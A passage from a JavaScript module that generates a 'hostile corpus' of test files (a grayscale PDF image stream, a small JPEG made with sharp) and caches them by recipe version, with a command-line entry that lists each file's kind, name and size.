  return `<< /Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceGray /BitsPerComponent 8 /Length ${data.length} >>\nstream\n${data.toString('latin1')}\nendstream`;
}

/** A 64 × 64 JPEG (sharp, the app's own image library). */
async function jpegBytes() {
  const { default: sharp } = await import('sharp');
  return sharp({ create: { width: 64, height: 64, channels: 3, background: { r: 40, g: 110, b: 200 } } })
    .jpeg({ quality: 80 })
    .toBuffer();
}

/**
 * Writes the missing files of the corpus (all of them with `force`, or when the recipes changed)
 * and answers the list: `{ name, file, description, kind, category, type, mayAccept, purpose?, expectText?, bytes }`.
 */
export async function hostileCorpus({ dir = HOSTILE_DIR, force = false, log = () => {} } = {}) {
  fs.mkdirSync(dir, { recursive: true });
  const stamp = path.join(dir, '.recipe-version');
  const current = fs.existsSync(stamp) && fs.readFileSync(stamp, 'utf8').trim() === RECIPE_VERSION;
  const out = [];
  for (const recipe of RECIPES) {
    const file = path.join(dir, recipe.name);
    if (force || !current || !fs.existsSync(file)) {
      const started = Date.now();
      const partial = `${file}.part`;
      await recipe.write(partial);
      fs.renameSync(partial, file);
      log(`  ${recipe.name}: ${fs.statSync(file).size} bytes (${Date.now() - started} ms)`);
    }
    const { write, ...facts } = recipe;
    void write;
    out.push({ ...facts, mayAccept: recipe.mayAccept ?? [], file, bytes: fs.statSync(file).size });
  }
  fs.writeFileSync(stamp, `${RECIPE_VERSION}\n`);
  return out;
}

if (/hostile-corpus\.mjs$/.test(process.argv[1] ?? '')) {
  const force = process.argv.includes('--force');
  console.log(`Corpus hostil em ${path.relative(process.cwd(), HOSTILE_DIR)}${force ? ' (tudo de novo)' : ''}:`);
  hostileCorpus({ force, log: (line) => console.log(line) }).then(
    (list) => {
      for (const f of list) console.log(`${f.kind.padEnd(8)} ${f.name.padEnd(26)} ${String(f.bytes).padStart(10)} B  ${f.description}`);
    },
    (err) => {
      console.error(err);
      process.exit(1);
    },
  );
}
